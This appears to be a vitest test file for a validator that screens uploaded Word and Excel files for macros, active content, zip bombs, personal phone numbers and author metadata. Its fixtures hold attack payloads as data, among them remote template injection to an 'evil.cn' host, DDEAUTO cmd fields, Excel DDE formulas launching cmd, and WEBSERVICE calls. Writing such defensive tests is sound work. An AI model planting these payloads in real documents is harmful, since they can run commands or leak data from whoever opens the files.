import { strToU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { type OfficeEnding, officeFault, withoutAuthors } from '#sources/media/office-document.ts';
import { contentTypes, type Parts, packed, relationship, sheet, w, word, wordBody, workbook } from './office-parts.ts';

const codeOf = (bytes: Uint8Array, ending: OfficeEnding = 'docx') => officeFault(bytes, ending)?.code;

test('pictures, fonts and settings of a printer are no files of another kind', () => {
  const parts = {
    'word/media/image1.JPEG': 'x',
    'word/fonts/font1.odttf': 'x',
    'word/printerSettings/printerSettings1.bin': 'x',
  };
  expect(officeFault(word(parts), 'docx')).toBeUndefined();
});

test('a form with a link to a website is published', () => {
  const link = relationship('Type="http://a/hyperlink" Target="https://example.cn/" TargetMode="External"');
  expect(officeFault(word({ 'word/_rels/document.xml.rels': link }), 'docx')).toBeUndefined();
  expect(officeFault(workbook(), 'xlsx')).toBeUndefined();
});

describe('a document is refused under another name', () => {
  test.each([
    ['text', strToU8('推荐表'), 'document-type'],
    ['a zip of pictures', packed({ 'a.png': 'x' }), 'document-type'],
    ['a workbook named .docx', workbook(), 'document-type'],
    [
      'a document with macros',
      word({ '[Content_Types].xml': contentTypes('ms-word.document.macroEnabled.main+xml') }),
      'document-type',
    ],
    ['a cut-off document', word().slice(0, 200), 'document-type'],
    [
      'two parts of one name, which programs tell apart in different ways',
      word({ 'word/Document.xml': wordBody('') }),
      'document-type',
    ],
    ['an old or locked document', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]), 'document-locked'],
    ['a part that is no XML', word({ 'word/document.xml': '<w:document' }), 'document-locked'],
    [
      'a part with a document type',
      word({ 'word/header1.xml': `<!DOCTYPE a [<!ENTITY b "c">]>${wordBody('')}` }),
      'document-locked',
    ],
  ])('%s', (_, bytes, code) => {
    expect(codeOf(bytes)).toBe(code);
  });
});

describe('a document is refused when it can do something', () => {
  test.each([
    ['macros', { 'word/vbaProject.bin': 'x' }],
    ['macros in another case', { 'word/VBAproject.bin': 'x' }],
    ['a control', { 'word/activeX/activeX1.xml': '<a/>' }],
    ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }],
    [
      'a template of a server',
      {
        'word/_rels/settings.xml.rels': relationship(
          'Type="http://a/attachedTemplate" Target="http://evil.cn/a.dotm" TargetMode="External"',
        ),
      },
    ],
    [
      'a template under escaped letters',
      {
        'word/_rels/settings.xml.rels': relationship(
          'Type="http://a/attachedTemplate" Target="http://evil.cn/a.dotm" TargetMode="&#69;xternal"',
        ),
      },
    ],
    [
      'a link to a file of a server',
      {
        'word/_rels/document.xml.rels': relationship(
          'Type="http://a/hyperlink" Target="file://evil.cn/x" TargetMode="External"',
        ),
      },
    ],
    [
      'a field that starts a program, in two runs',
      {
        'word/document.xml': wordBody(
          '<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText></w:r></w:p>',
        ),
      },
    ],
    [
      'a field right behind another',
      {
        'word/document.xml': wordBody(
          '<w:p><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>',
        ),
      },
    ],
    [
      'a part of another format that is shown as text',
      { 'word/_rels/document.xml.rels': relationship('Type="http://a/aFChunk" Target="a.xml"') },
    ],
    ['a file of any other kind', { 'word/media/setup.exe': 'x' }],
    ['a simple field', { 'word/footer1.xml': wordBody('<w:p><w:fldSimple w:instr="INCLUDETEXT \\\\evil"/></w:p>') }],
  ])('%s', (_, parts: Parts) => {
    expect(codeOf(word(parts))).toBe('document-active');
  });
});

describe('a workbook is refused when it can do something', () => {
  test.each([
    ['a link to another workbook', { 'xl/externalLinks/externalLink1.xml': '<a/>' }],
    ['a data connection', { 'xl/connections.xml': '<a/>' }],
    ['a formula that starts a program', { 'xl/worksheets/sheet2.xml': sheet("<c><f>cmd|'/c calc'!A1</f></c>") }],
    [
      'a name that stands for such a formula',
      {
        'xl/workbook.xml': `<workbook><definedNames><definedName name="a">cmd|'/c calc'!A1</definedName></definedNames></workbook>`,
      },
    ],
    [
      'a rule of validation that asks a server',
      { 'xl/worksheets/sheet2.xml': sheet('<c/><formula1>WEBSERVICE("http://a")</formula1>') },
    ],
    ['a formula that asks a server', { 'xl/worksheets/sheet2.xml': sheet('<c><f>WEBSERVICE("http://a")</f></c>') }],
  ])('%s', (_, parts: Parts) => {
    expect(codeOf(workbook(parts), 'xlsx')).toBe('document-active');
  });
});

test('a document of many megabytes packed in a few is refused', () => {
  const bytes = Buffer.from(word());
  // The size before packing, in the last entry of the central directory (APPNOTE.TXT, 4.3.12).
  bytes.writeUInt32LE(65 * 1_048_576, bytes.lastIndexOf('PK\u0001\u0002', undefined, 'latin1') + 24);
  expect(codeOf(bytes)).toBe('document-too-large');
});

describe('a personal number is found wherever it stands', () => {
  const mobile = ['1390000', '0000'] as const;
  const runs = `<w:p><w:r><w:t>${mobile[0]}</w:t></w:r><w:r><w:t>${mobile[1]}</w:t></w:r></w:p>`;

  test.each([
    ['in two runs of a paragraph', { 'word/document.xml': wordBody(runs) }],
    ['in a footer', { 'word/footer1.xml': `<w:ftr ${w}>${runs}</w:ftr>` }],
    [
      'in a text box',
      { 'word/document.xml': wordBody(`<w:p><w:r><w:txbxContent>${runs}</w:txbxContent></w:r></w:p>`) },
    ],
  ])('%s', (_, parts: Parts) => {
    expect(codeOf(word(parts))).toBe('pii-mobile');
  });

  test.each([
    ['as a number of a cell', { 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><v>${mobile.join('')}</v></c>`) }],
    ['among the shared strings', { 'xl/sharedStrings.xml': `<sst><si><t>电话${mobile.join('')}</t></si></sst>` }],
  ])('%s', (_, parts: Parts) => {
    expect(codeOf(workbook(parts), 'xlsx')).toBe('pii-mobile');
  });

  test('neighbouring cells are no number', () => {
    const cells = `<c r="A1"><v>${mobile[0]}</v></c><c r="B1"><v>${mobile[1]}</v></c>`;
    expect(codeOf(workbook({ 'xl/worksheets/sheet1.xml': sheet(cells) }), 'xlsx')).toBeUndefined();
  });
});

describe('comments and tracked changes get a reminder', () => {
  test.each([
    [
      'an insertion',
      { 'word/document.xml': wordBody('<w:p><w:ins w:author="a"><w:r><w:t>新</w:t></w:r></w:ins></w:p>') },
    ],
    [
      'a comment',
      {
        'word/comments.xml': `<w:comments ${w}><w:comment><w:p><w:r><w:t>改</w:t></w:r></w:p></w:comment></w:comments>`,
      },
    ],
  ])('%s', (_, parts: Parts) => {
    expect(codeOf(word(parts))).toBe('document-remarks');
  });

  test('not for an empty part of comments', () => {
    expect(codeOf(word({ 'word/comments.xml': `<w:comments ${w}/>` }))).toBeUndefined();
  });
});

test('who made a document is not published, all else is', () => {
  const core =
    '<cp:coreProperties xmlns:cp="a" xmlns:dc="b"><dc:creator>某人</dc:creator><cp:lastModifiedBy>某人</cp:lastModifiedBy><dc:title>推荐表</dc:title></cp:coreProperties>';
  const before = word({ 'docProps/core.xml': core });
  const after = withoutAuthors(before);
  const { 'docProps/core.xml': properties, ...parts } = unzipSync(after);
  const { 'docProps/core.xml': _, ...own } = unzipSync(before);
  expect(new TextDecoder().decode(properties)).toBe(core.replaceAll('某人', ''));
  expect(parts).toEqual(own);
  expect(withoutAuthors(before)).toEqual(after);
});
